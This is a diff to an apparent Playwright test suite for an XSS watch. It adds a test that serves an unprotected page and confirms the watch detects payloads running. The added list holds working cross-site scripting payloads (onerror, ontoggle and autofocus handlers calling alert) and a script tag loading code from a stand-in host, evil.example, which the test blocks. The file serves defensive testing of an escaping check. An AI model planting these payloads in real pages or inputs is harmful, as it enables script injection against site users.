@@ -33,8 +33,39 @@ class Watch:
     def visit(self, url):
         response = self.page.goto(url, wait_until="load")
         assert response.status < 500, url
-        self.page.wait_for_timeout(50)
+        # Then one frame and one task more: autofocus, animations and whatever the load event queued run by then.
+        self.page.evaluate("() => new Promise(settled => requestAnimationFrame(() => setTimeout(settled)))")
         return self.page.locator("[data-xss]").count()
+
+
+# Payloads of the corpus: three calling alert(1) (on an image error, on opening a <details>, on autofocus at the
+# first frame) and one loading a script from elsewhere; then one of this test's own, which runs only a frame and a
+# task after the load event and adds an element.
+RUNNING = [
+    "<img src=x onerror=alert(1) data-xss>",
+    "<details open ontoggle=alert(1) data-xss>",
+    "<input autofocus onfocus=alert(1) data-xss>",
+    "<script src=//evil.example/x.js data-xss></script>",
+]
+LATE = """<script>onload = () => requestAnimationFrame(() => setTimeout(() => {
+  alert("after the load event");
+  document.body.insertAdjacentHTML("beforeend", "<b data-xss>late</b>");
+}))</script>"""
+
+
+def test_the_watch_sees_payloads_run_where_nothing_stops_them(new_context, live_server):
+    """The same watch on a page of this test's own, served without the site's escaping or headers: it sees them run."""
+    assert all(payload in PAYLOADS for payload in RUNNING)
+    page = new_context().new_page()
+    unprotected = f"{live_server.url}/hostile-payloads-allowed-to-run/"
+    html = "<!doctype html><title>Unprotected</title>" + "".join(RUNNING) + LATE
+    page.route(unprotected, lambda route: route.fulfill(content_type="text/html", body=html))
+    page.route("http://evil.example/**", lambda route: route.abort())
+    watch = Watch(page, live_server)
+
+    assert watch.visit(unprotected) == len(RUNNING) + 1
+    assert sorted(watch.dialogs) == ["1", "1", "1", "after the load event"]
+    assert watch.foreign == ["http://evil.example/x.js"]
 
 
 def test_the_corpus_is_large_enough():
